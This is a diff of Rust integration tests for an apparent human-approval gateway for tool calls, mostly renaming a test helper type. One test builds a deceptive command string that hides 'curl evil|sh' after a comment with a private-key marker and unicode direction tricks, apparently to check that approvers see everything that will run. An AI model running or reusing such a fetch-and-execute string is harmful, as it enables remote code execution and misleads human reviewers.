@@ -11,24 +11,24 @@ use serde_json::{Value, json};
 use crate::{
     ask::scripted,
     fixture::{runs, wait_until},
-    place::{Place, Ran},
     serve::Serving,
+    test_folder::{CommandOutput, TestFolder},
 };
 
 const ASK: &str = "[policy]\nask = [\"ech*\"]\n";
 
 /// The calls that wait.
-fn waiting(place: &Place) -> Vec<Value> {
+fn waiting(place: &TestFolder) -> Vec<Value> {
     place.run(&["approve", "--json"]).json().as_array().unwrap().clone()
 }
 
 /// The id of the one call that waits, as soon as it does.
-fn held(place: &Place) -> String {
+fn held(place: &TestFolder) -> String {
     wait_until("a call waits", || waiting(place).len() == 1);
     waiting(place)[0]["id"].as_str().unwrap().to_owned()
 }
 
-fn serve(place: &Place) -> Serving {
+fn serve(place: &TestFolder) -> Serving {
     Serving::start(place, &["--listen", "127.0.0.1:0"])
 }
 
@@ -44,7 +44,7 @@ fn called(serving: &Serving, body: &str, meanwhile: impl FnOnce()) -> (u16, Valu
 // RC-1, GW-1
 #[test]
 fn a_call_of_the_gateway_is_allowed_from_the_command_line() {
-    let place = Place::with_config(ASK).variable("USER", "ada");
+    let place = TestFolder::with_config(ASK).variable("USER", "ada");
     let serving = serve(&place);
     let (status, envelope) = called(&serving, r#"{"a":1}"#, || {
         let id = held(&place);
@@ -80,7 +80,7 @@ fn a_call_of_the_gateway_is_allowed_from_the_command_line() {
 
 #[test]
 fn a_call_of_the_gateway_is_denied_with_a_reason() {
-    let place = Place::with_config(ASK);
+    let place = TestFolder::with_config(ASK);
     let serving = serve(&place);
     let mut decided = String::new();
     let (status, envelope) = called(&serving, "{}", || {
@@ -104,7 +104,7 @@ fn a_call_of_the_gateway_is_denied_with_a_reason() {
 // PO-2
 #[test]
 fn all_that_will_run_is_shown_before_it_is_decided() {
-    let place = Place::with_config(ASK);
+    let place = TestFolder::with_config(ASK);
     let serving = serve(&place);
     let note = "harmless ".repeat(40);
     let command = "ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u{202e}\u{9b}";
@@ -128,7 +128,7 @@ fn all_that_will_run_is_shown_before_it_is_decided() {
 // PO-2
 #[test]
 fn who_asked_cannot_allow_where_four_eyes_are_wanted() {
-    let place = Place::with_config("[policy]\nask = [\"echo\"]\nfour_eyes = true\n");
+    let place = TestFolder::with_config("[policy]\nask = [\"echo\"]\nfour_eyes = true\n");
     let token = |name: &str| {
         let words = ["token", "new", "--json", "--approve", "--name", name];
         let made = place.run(&words).json()["token"].as_str().unwrap().to_owned();
@@ -163,13 +163,13 @@ fn who_asked_cannot_allow_where_four_eyes_are_wanted() {
 
 #[test]
 fn a_question_expires_and_one_of_a_killed_process_is_gone() {
-    let place = Place::with_config("[policy]\nask = [\"*\"]\nask_timeout = \"300ms\"\n");
+    let place = TestFolder::with_config("[policy]\nask = [\"*\"]\nask_timeout = \"300ms\"\n");
     let serving = serve(&place);
     let (status, envelope) = called(&serving, "{}", || {});
     assert_eq!(status, 403);
     assert_eq!(envelope["error"], "Tool 'echo' was not run: nobody allowed it within 0.3s");
 
-    let place = Place::with_config(ASK);
+    let place = TestFolder::with_config(ASK);
     let mut serving = serve(&place);
     let _open = serving.begin("/api/tools/echo/call", "{}");
     held(&place);
@@ -182,7 +182,7 @@ fn a_question_expires_and_one_of_a_killed_process_is_gone() {
 
 #[test]
 fn rules_that_change_while_a_call_waits_hold_for_it() {
-    let place = Place::with_config(ASK);
+    let place = TestFolder::with_config(ASK);
     let serving = serve(&place);
     let (status, envelope) = called(&serving, "{}", || {
         let id = held(&place);
@@ -204,7 +204,7 @@ fn rules_that_change_while_a_call_waits_hold_for_it() {
 
 #[test]
 fn only_a_token_with_the_right_decides() {
-    let place = Place::with_config(&format!("{ASK}[serve]\nrequire_token = true\n"));
+    let place = TestFolder::with_config(&format!("{ASK}[serve]\nrequire_token = true\n"));
     let token = |words: &[&str]| {
         let ran = place.run(&[&["token", "new", "--json", "--name"], words].concat());
         format!("Authorization: Bearer {}\r\n", ran.json()["token"].as_str().unwrap())
@@ -230,7 +230,7 @@ fn only_a_token_with_the_right_decides() {
 
 #[test]
 fn without_a_terminal_a_call_is_refused_at_once() {
-    let place = Place::with_config(ASK);
+    let place = TestFolder::with_config(ASK);
     let envelope = place.call(&["echo"]);
     assert_eq!(envelope["error_kind"], "denied");
     assert!(envelope["hint"].as_str().unwrap().contains("on a terminal"), "{envelope}");
@@ -241,13 +241,13 @@ fn without_a_terminal_a_call_is_refused_at_once() {
     let place = scripted(ASK, turns);
     let ran = place.run(&["ask", "-m", "script:script.json", "echo!"]);
     assert_eq!((ran.status, &*ran.stdout), (0, "Then not.\n"), "{ran:?}");
-    let place = Place::with_config(ASK).homeless();
+    let place = TestFolder::with_config(ASK).homeless();
     assert!(place.call(&["echo"])["hint"].as_str().unwrap().contains("XDG_STATE_HOME"));
     assert!(place.refusal(&["approve"]).contains("XDG_STATE_HOME"));
 }
 
 /// A chat through a pipe, in which `go` is said.
-fn chat(place: &Place) -> Child {
+fn chat(place: &TestFolder) -> Child {
     let mut command = place.command(&["chat", "-m", "script:script.json"]);
     let mut child = command.stdin(Stdio::piped()).spawn().unwrap();
     use std::io::Write;
@@ -266,7 +266,7 @@ fn a_chat_through_a_pipe_waits_for_somebody_elsewhere() {
     let child = chat(&place);
     let id = held(&place);
     assert_eq!(place.run(&["approve", &id]).status, 0);
-    let ran = Ran::of(child.wait_with_output().unwrap());
+    let ran = CommandOutput::of(child.wait_with_output().unwrap());
     assert_eq!((ran.status, &*ran.stdout), (0, "Done.\n"), "{ran:?}");
     assert!(
         ran.stderr.contains(&format!("echo waits for a person: `switchboard approve {id}`")),
@@ -286,24 +286,24 @@ fn a_chat_through_a_pipe_waits_for_somebody_elsewhere() {
 
 #[test]
 fn settings_that_make_no_sense_are_told() {
-    let place = Place::with_config("[policy]\nask_if = [\"args.level >\"]\n");
+    let place = TestFolder::with_config("[policy]\nask_if = [\"args.level >\"]\n");
     let told = place.refusal(&["call", "echo"]);
     assert!(
         told.contains("switchboard.toml:1: `[policy] ask_if`: `args.level >` is not"),
         "{told}"
     );
-    let place = Place::with_config("[policy]\nask_if = [\"level > 1\"]\n");
+    let place = TestFolder::with_config("[policy]\nask_if = [\"level > 1\"]\n");
     assert!(place.refusal(&["call", "echo"]).contains("speaks of `level`"));
-    let place = Place::with_config("[policy]\nask = [\"a[\"]\n");
+    let place = TestFolder::with_config("[policy]\nask = [\"a[\"]\n");
     assert!(place.refusal(&["call", "echo"]).contains("[policy]"));
-    let place = Place::with_config("[policy]\nask_timeout = 5\n");
+    let place = TestFolder::with_config("[policy]\nask_timeout = 5\n");
     assert!(place.refusal(&["call", "echo"]).contains("ask_timeout"));
 }
 
 #[test]
 fn arguments_decide_who_is_asked() {
     let rule = "[policy]\nask_if = [\"tool == 'echo' && has(args.level) && args.level > 80\"]\n";
-    let place = Place::with_config(rule);
+    let place = TestFolder::with_config(rule);
     assert_eq!(place.call(&["echo", "level:=80"])["success"], true);
     assert_eq!(place.call(&["math_eval", "expression=81"])["success"], true);
     let told = place.error(&["echo", "level:=81"]);
